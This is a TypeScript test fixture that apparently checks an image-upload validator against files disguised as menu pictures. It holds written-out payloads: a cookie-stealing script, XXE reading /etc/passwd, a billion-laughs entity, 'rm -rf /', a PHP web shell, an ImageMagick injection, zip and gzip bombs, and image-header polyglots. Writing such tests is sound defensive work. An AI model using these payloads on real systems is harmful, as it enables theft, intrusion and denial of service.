import { deflateRawSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import { barsOnPaper, formats, honest, mediaType } from "./honest.ts";
import { accepted, type HostileFile, refused } from "./hostile-file.ts";

const ascii = (text: string) => Buffer.from(text, "latin1");
const hex = (digits: string, lengthBytes = 4096) => {
  const bytes = Buffer.alloc(lengthBytes);
  Buffer.from(digits.replaceAll(" ", ""), "hex").copy(bytes);
  return bytes;
};

/** A zip with one deflated entry, enough for any unzipper (APPNOTE 4.3). */
function zip(name: string, content: Buffer): Buffer {
  const data = deflateRawSync(content, { level: 9 });
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  return Buffer.concat([local, ascii(name), data]);
}

const script = "<script>document.location='http://127.0.0.1:9/'+document.cookie</script>";
const svg = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">${inside}</svg>`;
const laughs = `<!DOCTYPE svg [<!ENTITY a "ha">${[..."bcdefghi"].map((c, i) => `<!ENTITY ${c} "${`&${"abcdefgh"[i]};`.repeat(10)}">`).join("")}]>`;
const external = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>';

const texts: [string, string][] = [
  ["HTML page with a script", `<!doctype html><html><body>${script}</body></html>`],
  ["HTML after blank lines, to fool a sniffer", `\n\n\n   <html>${script}`],
  ["SVG", svg('<rect width="400" height="400"/>')],
  ["SVG with a script", svg(script)],
  ["SVG that loads from outside", svg('<image href="http://127.0.0.1:9/x.png" width="9" height="9"/>')],
  ["SVG with an outside entity", `<?xml version="1.0"?>${external}${svg("<text>&x;</text>")}`],
  ["SVG of a billion laughs", `<?xml version="1.0"?>${laughs}${svg("<text>&i;</text>")}`],
  ["SVG with a byte order mark", `\u00ef\u00bb\u00bf${svg(script)}`],
  ["JavaScript", "fetch('/api/menus', { method: 'DELETE' })"],
  ["JSON", '{"dishes":[{"name":"Soup"}]}'],
  ["CSV", "name;price\nSoup;5,00\n"],
  ["shell script", "#!/bin/sh\nrm -rf /\n"],
  ["PHP", "<?php system($_GET['c']); ?>"],
  ["PostScript", "%!PS-Adobe-3.0\n(/etc/passwd) run\nshowpage\n"],
  [
    "ImageMagick script",
    "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|id\")'\npop graphic-context\n",
  ],
  ["XPM", '/* XPM */ static char *x[] = { "1 1 1 1", "a c #fff", "a" };'],
  ["GIF header in front of JavaScript", `GIF89a=1;/*${"x".repeat(300)}*/alert(1)`],
  ["WebP header in front of HTML", `RIFF\u00ff\u0000\u0000\u0000WEBP<html>${script}`],
  ["JPEG header in front of HTML", `\u00ff\u00d8\u00ff\u00e0<html>${script}`],
  ["PNG header in front of HTML", `\u0089PNG\r\n\u001a\n<html>${script}`],
];

const programs: [string, Buffer][] = [
  ["Windows program", hex("4d5a9000 03000000 04000000 ffff0000")],
  ["Linux program", hex("7f454c46 02010100 00000000 00000000")],
  ["Mac program", hex("cffaedfe 07000001 03000000 02000000")],
  ["Java class", hex("cafebabe 00000034")],
  ["WebAssembly", hex("0061736d 01000000")],
  ["7-Zip", hex("377abcaf 271c0004")],
  ["RAR", hex("526172211a0700")],
  ["MP3", hex("49443304 00000000")],
  ["MP4 film", hex("00000018 66747970 69736f6d 00000200 69736f6d 6d703432")],
  ["Photoshop", hex("38425053 00010000 00000000 00030000 00640000 00640008 0003")],
  ["Windows bitmap", hex("424d7a75 00000000 00007a00 00006c00 0000c800 00006400")],
  ["Windows icon", hex("00000100 01001010 00000100 20006804")],
  ["JPEG 2000", hex("0000000c 6a502020 0d0a870a 00000014 66747970 6a703220")],
  ["JPEG XL", hex("ff0a fa7f 0190 0800")],
  ["SQLite", ascii(`SQLite format 3\0${"\0".repeat(4000)}`)],
  ["Word document", zip("word/document.xml", ascii("<w:document/>"))],
  ["zip bomb, 30 MB in 30 kB", zip("menu.jpg", Buffer.alloc(30 << 20))],
  ["gzip bomb", gzipSync(Buffer.alloc(30 << 20), { level: 9 })],
  ["SVG packed with gzip", gzipSync(svg(script))],
  ["tar", Buffer.concat([ascii("menu.jpg".padEnd(100, "\0")), ascii("0000644\0".padEnd(412, "\0"))])],
];

/** Other things with a picture's name and type; then pictures with another picture's. The bytes decide, both times. */
export async function* pretenders(): AsyncGenerator<HostileFile> {
  for (const [why, text] of texts) yield refused(`${why}, called a JPEG`, ascii(text));
  for (const [why, bytes] of programs) yield refused(`${why}, called a JPEG`, bytes);
  yield refused("SVG, called a PNG", ascii(svg(script)), { name: "menu.png", contentType: "image/png" });
  yield refused("SVG, declared as one", ascii(svg(script)), {
    name: "menu.svg",
    contentType: "image/svg+xml",
  });
  yield refused("TIFF, which Carte does not take", await barsOnPaper().tiff().toBuffer(), {
    name: "menu.tiff",
    contentType: "image/tiff",
  });
  yield refused(
    "raw pixels without a header",
    await sharp(await honest("jpeg"))
      .raw()
      .toBuffer(),
  );
  for (const [at, format] of formats.entries()) {
    const other = formats[(at + 1) % formats.length] ?? "jpeg";
    yield accepted(`${format} called ${other}`, await honest(format), {
      name: `menu.${other}`,
      contentType: mediaType[other],
    });
  }
  const jpeg = await honest("jpeg");
  for (const contentType of [
    "",
    "text/html",
    "image/svg+xml",
    "application/octet-stream",
    `image/${"x".repeat(3000)}`,
  ])
    yield accepted(`JPEG declared as ${contentType.slice(0, 30) || "nothing"}`, jpeg, { contentType });
  yield accepted("JPEG with a zip behind it", Buffer.concat([jpeg, zip("evil.js", ascii(script))]));
  yield accepted("PNG with HTML behind it", Buffer.concat([await honest("png"), ascii(script)]), {
    name: "menu.png",
    contentType: "image/png",
  });
}
